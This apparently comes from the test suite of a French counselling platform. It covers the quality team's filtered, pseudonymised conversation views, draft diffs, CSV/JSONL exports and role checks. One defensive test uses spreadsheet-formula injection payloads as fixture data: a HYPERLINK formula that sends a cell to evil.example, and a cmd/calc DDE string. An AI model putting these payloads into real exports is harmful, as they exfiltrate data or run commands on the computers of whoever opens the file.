"""The quality team's reading: closed conversations only, pseudonymised, filtered; every draft with
the counsellor's decision, the answer sent and a word-level diff; exports as CSV and as candidate
test cases read by the same store query as `relais eval harvest`."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import pytest

from evals.harvest import candidates
from tests.web.conftest import login, receive_until
from web.models import Rating
from web.quality import Selection, word_diff
from web.store import NotFound


def draft_payload(text: str, confidence: float, flags: tuple[str, ...] = (), doc: str = "oscar:ps-voeux") -> dict:
    return {"draft": text, "confidence": confidence, "abstained": False, "drafter": "extractive", "model": "-",
            "index_version": 3, "citations": [{"doc_id": doc, "title": "Les vœux", "url": "https://example.org/voeux", "source": "oscar"}],
            "sources": [], "charter_flags": [{"code": code, "message": "à revoir"} for code in flags]}


def conversation(store, counsellor_id: int, service: str, question: str, draft: str, confidence: float, *,
                 outcome: str | None, answer: str | None = None, flags: tuple[str, ...] = (), rating: int | None = None,
                 reason: str | None = None, close: bool = True) -> str:
    """A conversation as the use-cases leave it: the user's question, a draft, the counsellor's decision."""
    public_id, _ = store.open_conversation(service)
    asked = store.append(public_id, "user", question)
    draft_id = store.save_draft(public_id, asked.message_id, draft_payload(draft, confidence, flags))
    store.take(public_id, counsellor_id)
    if outcome in ("sent", "edited"):
        store.append(public_id, "counsellor", answer, idempotency_key="a", counsellor_id=counsellor_id,
                     decision=(draft_id, outcome))
    elif outcome == "rejected":
        store.decide_draft(public_id, draft_id, "rejected", None, counsellor_id)
        if reason:
            with store.sessions.begin() as session:
                from web.models import DraftRecord

                session.get(DraftRecord, draft_id).reject_reason = reason
        if answer:
            store.append(public_id, "counsellor", answer, idempotency_key="a", counsellor_id=counsellor_id)
    if close:
        store.close(public_id, counsellor_id)
    if rating is not None:
        with store.sessions.begin() as session:
            conversation_id = store._conversation(session, public_id).id
            session.add(Rating(conversation_id=conversation_id, score=rating))
    return public_id


@pytest.fixture
def selection_data(store):
    counsellor = store.add_user("c.dupont", "un-mot-de-passe-solide", "counsellor", ["parcoursup", "moel"])
    made = {
        "sent": conversation(store, counsellor.id, "parcoursup", "Quand ouvre la plateforme ?", "En janvier.", 0.9,
                             outcome="sent", answer="En janvier.", rating=5),
        "edited": conversation(store, counsellor.id, "parcoursup", "Je suis <PERSONNE_1>, les vœux ?",
                               "Vous pouvez formuler dix vœux.", 0.55, outcome="edited",
                               answer="Bonjour <PERSONNE_1>, vous pouvez formuler jusqu'à dix vœux.", flags=("gendered-title",)),
        "rejected": conversation(store, counsellor.id, "moel", "Mon fils n'a pas de lycée", "Voir la fiche internat.", 0.2,
                                 outcome="rejected", answer="Contactez le CIO de votre secteur.", rating=2,
                                 reason="Hors sujet : la question porte sur l'affectation."),
        "none": None,
        "open": conversation(store, counsellor.id, "moel", "Encore ouverte", "Brouillon.", 0.8, outcome=None, close=False),
    }
    public_id, _ = store.open_conversation("moel")
    store.append(public_id, "user", "Bonjour ?")
    store.take(public_id, counsellor.id)
    store.append(public_id, "counsellor", "Bonjour, je vous écoute.", counsellor_id=counsellor.id)
    store.close(public_id, counsellor.id)
    made["none"] = public_id
    return made


def selected(store, **filters) -> set[str]:
    total, rows = store.quality_conversations(Selection(**filters))
    assert total == len(rows)
    return {row["conversation"] for row in rows}


def test_each_filter_selects_the_closed_conversations_it_names(store, selection_data):
    closed = {selection_data[k] for k in ("sent", "edited", "rejected", "none")}
    assert selected(store) == closed  # never the open one
    assert selected(store, outcome="rejected") == {selection_data["rejected"]}
    assert selected(store, outcome="edited") == {selection_data["edited"]}
    assert selected(store, outcome="none") == {selection_data["none"]}
    assert selected(store, confidence="low") == {selection_data["rejected"]}
    assert selected(store, confidence="medium") == {selection_data["edited"]}
    assert selected(store, confidence="high") == {selection_data["sent"]}
    assert selected(store, flagged=True) == {selection_data["edited"]}
    assert selected(store, flagged=False) == closed - {selection_data["edited"]}
    assert selected(store, rating=2) == {selection_data["rejected"]}
    assert selected(store, rating=0) == {selection_data["edited"], selection_data["none"]}
    assert selected(store, services=("moel",)) == {selection_data["rejected"], selection_data["none"]}
    now = datetime.now(timezone.utc)
    assert selected(store, closed_from=now - timedelta(hours=1), closed_before=now + timedelta(hours=1)) == closed
    assert selected(store, closed_from=now + timedelta(days=1)) == set()


def test_the_list_gives_counts_confidence_flags_and_rating_per_conversation(store, selection_data):
    _, rows = store.quality_conversations(Selection())
    by_id = {row["conversation"]: row for row in rows}
    edited = by_id[selection_data["edited"]]
    assert (edited["drafts"], edited["lowest_confidence"], edited["flagged_drafts"], edited["rating"]) == (
        {"edited": 1}, 0.55, 1, None)
    assert by_id[selection_data["sent"]]["rating"] == 5
    assert by_id[selection_data["none"]]["drafts"] == {}
    assert [row["closed_at"] for row in rows] == sorted((row["closed_at"] for row in rows), reverse=True)
    total, page = store.quality_conversations(Selection(), limit=2, offset=2)
    assert total == 4 and [r["conversation"] for r in page] == [r["conversation"] for r in rows[2:4]]
    assert store.quality_conversations(Selection(), count_up_to=2)[0] == 3  # « more than 2 »: counting stops there


def test_a_page_past_the_last_conversation_is_empty_and_one_past_the_count_limit_is_not(store, selection_data):
    _, rows = store.quality_conversations(Selection())

    assert store.quality_conversations(Selection(), limit=2, offset=4) == (4, [])
    assert store.quality_conversations(Selection(outcome="rejected"), limit=2, offset=1) == (1, [])
    total, page = store.quality_conversations(Selection(), limit=2, offset=3, count_up_to=2)  # not counted that far
    assert total == 3 and [r["conversation"] for r in page] == [rows[3]["conversation"]]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_on_sqlite_a_page_walks_the_closing_times_and_tests_drafts_on_their_index(store, selection_data):
    """Without statistics (nothing runs ANALYZE) SQLite's planner would test every closed conversation
    of the year against the filters, then sort them all for one page."""
    from sqlalchemy import event

    statements = []
    engine = store.sessions.kw["bind"]
    record = lambda conn, cursor, statement, params, context, many: statements.append((statement, params))  # noqa: E731
    event.listen(engine, "before_cursor_execute", record)
    try:
        store.quality_conversations(Selection(outcome="rejected", confidence="low", flagged=False))
    finally:
        event.remove(engine, "before_cursor_execute", record)

    page = next((s, p) for s, p in statements if "ORDER BY conversations.closed_at DESC" in s)
    with engine.connect() as connection:
        plan = [row[3] for row in connection.exec_driver_sql("EXPLAIN QUERY PLAN " + page[0], page[1])]
    assert not any("TEMP B-TREE" in step for step in plan), plan
    assert any("INDEX ix_conversations_closed_at" in step for step in plan), plan
    drafts = [step for step in plan if "drafts" in step]
    assert len(drafts) == 3 and all("COVERING INDEX ix_drafts_quality" in step for step in drafts), plan


def test_a_rejected_draft_shows_the_answer_the_counsellor_sent_instead_and_the_reason(store, selection_data):
    detail = store.quality_conversation(selection_data["rejected"])

    [draft] = detail["drafts"]
    assert draft["outcome"] == "rejected" and draft["counsellor"] == "c.dupont"
    assert draft["final_text"] == "Contactez le CIO de votre secteur."  # no longer null
    assert draft["replaced_by_counsellor"] is True
    assert draft["reject_reason"] == "Hors sujet : la question porte sur l'affectation."
    assert {"op": "delete", "text": "Voir la fiche internat."} in draft["diff"]
    assert detail["rating"] == {"score": 2, "comment": None}
    assert detail["messages"][0] == {**detail["messages"][0], "author": "user", "text": "Mon fils n'a pas de lycée"}


def test_an_edited_draft_shows_its_word_level_diff_with_the_text_sent(store, selection_data):
    [draft] = store.quality_conversation(selection_data["edited"])["drafts"]

    assert draft["final_text"] == "Bonjour <PERSONNE_1>, vous pouvez formuler jusqu'à dix vœux."
    kept = "".join(r["text"] for r in draft["diff"] if r["op"] != "insert")
    sent = "".join(r["text"] for r in draft["diff"] if r["op"] != "delete")
    assert (kept, sent) == ("Vous pouvez formuler dix vœux.", draft["final_text"])
    assert {"op": "insert", "text": "jusqu'à "} in draft["diff"]


def test_an_open_conversation_is_not_for_the_quality_team(store, selection_data):
    with pytest.raises(NotFound):
        store.quality_conversation(selection_data["open"])


def test_the_word_diff_gives_back_both_texts_whole():
    runs = word_diff("Le  dossier\nest ouvert.", "Le dossier est fermé, désolé.")
    assert "".join(r["text"] for r in runs if r["op"] != "insert") == "Le  dossier\nest ouvert."
    assert "".join(r["text"] for r in runs if r["op"] != "delete") == "Le dossier est fermé, désolé."
    assert word_diff(None, "Tout neuf") == [{"op": "insert", "text": "Tout neuf"}]
    assert word_diff("Pareil.", "Pareil.") == [{"op": "equal", "text": "Pareil."}]


def test_the_candidate_export_and_the_harvest_read_the_same_drafts(store, selection_data):
    since = datetime.now(timezone.utc) - timedelta(hours=1)
    from_harvest = candidates(store.decided_drafts(since), None)
    from_selection = candidates(store.quality_drafts(Selection(), outcomes=("edited", "rejected")), None)

    assert from_selection == from_harvest
    assert [c["review"]["outcome"] for c in from_selection] == ["edited", "rejected"]
    rejected = from_selection[1]["review"]
    assert rejected["counsellor_answer"] == "Contactez le CIO de votre secteur."
    assert rejected["reject_reason"] == "Hors sujet : la question porte sur l'affectation."


# -- over HTTP, with the roles -------------------------------------------------------------------------
def closed_conversation_with_a_name(client) -> str:
    with client.websocket_connect("/console/ws") as console, client.websocket_connect("/widget/ws") as widget:
        console.receive_json()
        widget.send_json({"type": "hello", "service": "parcoursup"})
        conversation_id = widget.receive_json()["conversation"]
        widget.send_json({"type": "message", "text": "je suis Léa Martin, c'est quoi un oui-si ?", "key": "k"})
        draft = receive_until(console, "draft")
        console.send_json({"type": "reject", "conversation": conversation_id, "draft_id": draft["draft_id"]})
        receive_until(console, "ack")
        console.send_json({"type": "send", "conversation": conversation_id, "text": "Bonjour Léa Martin, un oui-si est une "
                           "admission sous condition de suivre un parcours d'accompagnement.", "key": "r"})
        receive_until(console, "ack")
        console.send_json({"type": "close", "conversation": conversation_id})
        receive_until(console, "closed")
    return conversation_id


def test_quality_staff_read_closed_conversations_and_exports_pseudonymised_only(client, services):
    login(client)
    conversation_id = closed_conversation_with_a_name(client)
    assert client.get("/quality/conversations").status_code == 403  # a counsellor is not quality staff
    client.post("/logout", data={"csrf": client.get("/session").json()["csrf"]})
    assert client.get("/quality/conversations").status_code == 401

    login(client, "qualite")
    listed = client.get("/quality/conversations").json()
    assert listed["total"] == 1 and listed["conversations"][0]["conversation"] == conversation_id
    detail = client.get(f"/quality/conversations/{conversation_id}").json()
    assert detail["messages"][0]["text"] == "je suis <PERSONNE_1>, c'est quoi un oui-si ?"
    [draft] = detail["drafts"]
    assert draft["outcome"] == "rejected" and draft["final_text"].startswith("Bonjour <PERSONNE_1>, un oui-si")
    exported = client.get("/quality/export.csv?outcome=rejected")
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    [row] = list(csv.DictReader(io.StringIO(exported.text)))
    assert (row["conversation"], row["outcome"]) == (conversation_id, "rejected")
    assert row["answer_sent"].startswith("Bonjour <PERSONNE_1>")
    [case] = [json.loads(line) for line in client.get("/quality/export.jsonl").text.splitlines()]
    assert case["question"] == "je suis <PERSONNE_1>, c'est quoi un oui-si ?"
    for answer in (listed, detail, exported.text, case):
        assert "Léa" not in json.dumps(answer, ensure_ascii=False) and "Martin" not in json.dumps(answer, ensure_ascii=False)
    assert client.get("/quality/conversations?outcome=edited").json()["total"] == 0
    assert client.get("/quality/conversations/inconnue").status_code == 404


def test_bad_filters_get_a_french_error(client):
    login(client, "qualite")
    for query, words in (("outcome=perdu", "Issue inconnue"), ("rating=9", "Note invalide"), ("from=hier", "Date invalide"),
                         ("service=ailleurs", "Service inconnu"), ("flagged=peut-etre", "signalement"),
                         # adversarial pass: superscript digits and the last day there is crashed the handler
                         ("rating=²", "Note invalide"), ("to=9999-12-31", "Date invalide"), ("from=20261130", "Date invalide")):
        for path in ("/quality/conversations", "/quality/export.csv"):
            answer = client.get(f"{path}?{query}")
            assert answer.status_code == 422 and words in answer.json()["detail"], (path, query)
    answer = client.get("/stats/data?from=9999-12-01&to=9999-12-31")
    assert answer.status_code == 422 and "Date invalide" in answer.json()["detail"]


def test_an_export_cell_never_starts_a_spreadsheet_formula():
    from web.quality import drafts_csv

    record = {"conversation": "c1", "service": "moel", "closed_at": None, "draft_id": 1, "decided_at": None,
              "question": '=HYPERLINK("http://evil.example/?"&A1,"clic") je suis <PERSONNE_1>',
              "payload": {"draft": "+33 est un indicatif", "citations": []}, "outcome": "edited", "counsellor": "c",
              "final_text": "@SUM(1+1)*cmd|' /C calc'!A0", "answer_sent": "-2 points", "reject_reason": "\t=1+1",
              "rating": None}
    [row] = list(csv.DictReader(io.StringIO(drafts_csv([record]))))
    for column in ("question", "draft", "final_text", "answer_sent", "reject_reason"):
        assert row[column][:1] not in "=+-@\t\r", column
    assert row["question"] == "'" + record["question"]  # the text itself is kept


@pytest.mark.parametrize("path", ["/quality", "/stats"])
def test_a_counsellor_gets_a_french_403_page_and_staff_get_the_page(client, services, path):
    assert client.get(path, follow_redirects=False).headers["location"] == "/login"
    login(client)
    refused = client.get(path)
    assert refused.status_code == 403 and "réservée" in refused.text and 'lang="fr"' in refused.text
    client.post("/logout", data={"csrf": client.get("/session").json()["csrf"]})
    login(client, "qualite")
    assert client.get(path).status_code == 200
    services.store.add_user("chef", "un-mot-de-passe-solide", "supervisor", [])
    client.post("/logout", data={"csrf": client.get("/session").json()["csrf"]})
    login(client, "chef")
    assert client.get(path).status_code == 200


def test_the_stats_figures_are_for_staff_only_and_match_the_command(client, services):
    login(client)
    assert client.get("/stats/data").status_code == 403
    assert client.get("/stats/export.csv").status_code == 403
    client.post("/logout", data={"csrf": client.get("/session").json()["csrf"]})
    login(client, "qualite")
    figures = client.get("/stats/data?from=2025-01-01&to=2025-12-31").json()
    assert figures["period"] == {"from": "2025-01-01", "to": "2025-12-31"} and figures["contacts"]["phone"] is None
    assert client.get("/stats/data?from=2025-02-01&to=2025-01-01").status_code == 422
    assert "précède" in client.get("/stats/data?from=2025-02-01&to=2025-01-01").json()["detail"]
    exported = client.get("/stats/export.csv?from=2025-01-01&to=2025-12-31")
    assert exported.text.startswith("section,cle,mesure,valeur")
